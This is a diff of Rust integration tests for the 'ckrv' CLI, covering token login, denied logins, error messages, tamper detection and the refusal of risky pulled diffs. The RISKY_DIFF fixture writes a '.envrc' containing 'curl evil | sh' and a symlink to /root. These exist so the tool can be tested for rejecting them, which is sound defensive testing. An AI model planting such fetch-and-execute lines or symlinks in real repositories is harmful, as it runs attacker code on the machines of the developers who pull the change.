@@ -50,14 +50,15 @@ async fn login_run_status_logs_and_pull_work_as_the_quickstart_says() {
     let status: serde_json::Value =
         serde_json::from_str(&env.ok(&work, &["status", short, "--json"]).await).unwrap();
     assert_eq!(status["id"], id.as_str());
-    assert_eq!(status["repo_url"], "https://git.example.com/work.git");
-    assert_eq!(status["base_branch"], "main");
+    assert_eq!(status["git_repo_url"], "https://git.example.com/work.git");
+    assert_eq!(status["git_base_branch"], "main");
     assert_eq!(status["spec_path"], "specs/spec.md");
-    assert_eq!(status["status"], "pending");
+    // Claimed for a worker as it was dispatched.
+    assert_eq!(status["status"], "running");
 
     // Nothing to pull yet, and nothing in the log.
     let err = env.fails(&work, &["pull", short]).await;
-    assert!(err.contains(&format!("job {short} is pending")), "{err}");
+    assert!(err.contains(&format!("job {short} is running")), "{err}");
     assert_eq!(env.ok(&work, &["logs", short]).await, "");
 
     env.finish_with_diff(&id, DIFF).await;
@@ -101,6 +102,70 @@ async fn login_run_status_logs_and_pull_work_as_the_quickstart_says() {
     assert!(out.contains("Logged out"), "{out}");
     let err = env.fails(&work, &["status", short]).await;
     assert!(err.contains("run `ckrv cloud login`"), "{err}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn ci_logs_in_with_a_personal_access_token_from_stdin() {
+    let env = Env::start().await;
+    env.add_user("ci@example.com").await;
+    let store = env.store().await;
+    let (id, token) = ckrv_api::admin::issue_token(&store, "ci@example.com", "ci", None)
+        .await
+        .unwrap();
+
+    // A wrong token is refused and nothing is stored.
+    let out = env
+        .run_with_stdin(
+            env.home.path(),
+            &["cloud", "login", "--with-token"],
+            "ckrv_pat_wrong\n",
+        )
+        .await;
+    assert_eq!(out.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("not accepted"));
+    assert!(!env.config_dir().join("credentials.json").exists());
+    let out = env
+        .run_with_stdin(env.home.path(), &["cloud", "login", "--with-token"], "")
+        .await;
+    assert!(String::from_utf8_lossy(&out.stderr).contains("no token on standard input"));
+
+    let out = env
+        .run_with_stdin(
+            env.home.path(),
+            &["cloud", "login", "--with-token"],
+            &format!("{token}\n"),
+        )
+        .await;
+    let printed = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        out.status.success(),
+        "{printed}{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(
+        printed.contains("Authenticated as ci@example.com (personal access token)"),
+        "{printed}"
+    );
+    assert!(!printed.contains(&token));
+    let whoami = env.ok(env.home.path(), &["cloud", "whoami"]).await;
+    assert!(whoami.contains("ci@example.com"), "{whoami}");
+
+    // Revoked, it stops working, and the CLI says how to get in again.
+    ckrv_api::admin::revoke_token(&store, "ci@example.com", &id)
+        .await
+        .unwrap();
+    let err = env.fails(env.home.path(), &["cloud", "whoami"]).await;
+    assert!(err.contains("ckrv cloud login"), "{err}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_denied_login_says_so_and_stores_nothing() {
+    let env = Env::start().await;
+    let (out, printed) = env.login_decided("dev@example.com", "deny").await;
+    assert_eq!(out.status.code(), Some(1), "{printed}");
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("the login was denied"), "{err}");
+    assert!(!env.config_dir().join("credentials.json").exists());
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -189,9 +254,20 @@ async fn bad_input_gets_clear_errors_and_exit_status_1() {
                 "--credential",
                 "github-work",
             ],
-            "credential 'github-work' not found",
+            "Credential not found: 'github-work'; see your credentials with `ckrv cloud credentials list`",
         ),
         (&["status", "abc"], "at least 4 characters"),
+        (
+            &[
+                "run",
+                "--cloud",
+                "--spec",
+                "specs/spec.md",
+                "--repo",
+                "https://dev:ghp_secret@git.example.com/work.git",
+            ],
+            "carries credentials, which are never sent",
+        ),
     ];
     for (args, message) in cases {
         let err = env.fails(&work, args).await;
@@ -217,7 +293,7 @@ async fn bad_input_gets_clear_errors_and_exit_status_1() {
     // None of the refused runs created a job.
     let whoami: serde_json::Value =
         serde_json::from_str(&env.ok(&work, &["cloud", "whoami", "--json"]).await).unwrap();
-    assert_eq!(whoami["quota"]["used"], 0);
+    assert_eq!(whoami["job_quota_remaining"], 100);
     assert_eq!(
         git(&work, &["status", "--porcelain", "--", "README.md"]),
         ""
@@ -258,4 +334,83 @@ fn every_command_has_help() {
         .output()
         .unwrap();
     assert_eq!(usage.status.code(), Some(2));
+}
+
+/// A change that plants a link and a direnv file besides an ordinary edit.
+const RISKY_DIFF: &str = "diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-Status: draft\n+Status: final\n\
+diff --git a/.envrc b/.envrc\nnew file mode 100644\n--- /dev/null\n+++ b/.envrc\n@@ -0,0 +1 @@\n+curl evil | sh\n\
+diff --git a/home b/home\nnew file mode 120000\n--- /dev/null\n+++ b/home\n@@ -0,0 +1 @@\n+/root\n\\ No newline at end of file\n";
+
+async fn dispatched(env: &Env, work: &std::path::Path) -> String {
+    let out = env
+        .ok(
+            work,
+            &["run", "--cloud", "--spec", "specs/spec.md", "--json"],
+        )
+        .await;
+    let job: serde_json::Value = serde_json::from_str(&out).unwrap();
+    job["id"].as_str().unwrap().to_string()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn pull_refuses_links_and_dotfiles_without_a_yes_and_applies_them_with_one() {
+    let env = Env::start().await;
+    let work = worktree(env.home.path());
+    env.login("dev@example.com").await;
+    let id = dispatched(&env, &work).await;
+    env.finish_with_diff(&id, RISKY_DIFF).await;
+
+    // No terminal to ask on: refused, with what and why, and nothing changes.
+    let err = env.fails(&work, &["pull", &id[..8]]).await;
+    assert!(err.contains(".envrc: direnv runs it"), "{err}");
+    assert!(err.contains("home: a symbolic link"), "{err}");
+    assert!(
+        err.contains(&format!("ckrv pull {} --yes", &id[..8])),
+        "{err}"
+    );
+    assert!(!work.join(".envrc").exists());
+    assert_eq!(
+        git(&work, &["status", "--porcelain", "--", "README.md"]),
+        ""
+    );
+    let err = env.fails(&work, &["pull", &id[..8], "--json"]).await;
+    assert!(err.contains("nothing was changed"), "{err}");
+
+    let out = env.ok(&work, &["pull", &id[..8], "--yes", "--json"]).await;
+    let pulled: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(pulled["applied"], true);
+    assert_eq!(pulled["sha256"], pulled["job"]["diff_sha256"]);
+    assert_eq!(pulled["risks"].as_array().unwrap().len(), 2, "{pulled}");
+    assert!(work.join(".envrc").exists());
+    assert!(
+        std::fs::symlink_metadata(work.join("home"))
+            .unwrap()
+            .is_symlink()
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn pull_refuses_a_diff_changed_after_its_worker_uploaded_it() {
+    let env = Env::start().await;
+    let work = worktree(env.home.path());
+    env.login("dev@example.com").await;
+    let id = dispatched(&env, &work).await;
+    env.finish_with_diff(&id, DIFF).await;
+    let status: serde_json::Value =
+        serde_json::from_str(&env.ok(&work, &["status", &id[..8], "--json"]).await).unwrap();
+    assert_eq!(status["diff_sha256"].as_str().unwrap().len(), 64);
+
+    // Someone with the artifact store swaps the diff for their own.
+    let stored = env
+        .home
+        .path()
+        .join(format!("api/artifacts/jobs/{id}/diff.patch"));
+    let planted = DIFF.replace("+Status: final", "+Status: owned");
+    std::fs::write(&stored, planted).unwrap();
+    let err = env.fails(&work, &["pull", &id[..8]]).await;
+    assert!(err.contains("is not the one its worker uploaded"), "{err}");
+    assert_eq!(
+        std::fs::read_to_string(work.join("README.md")).unwrap(),
+        "Status: draft\n"
+    );
 }
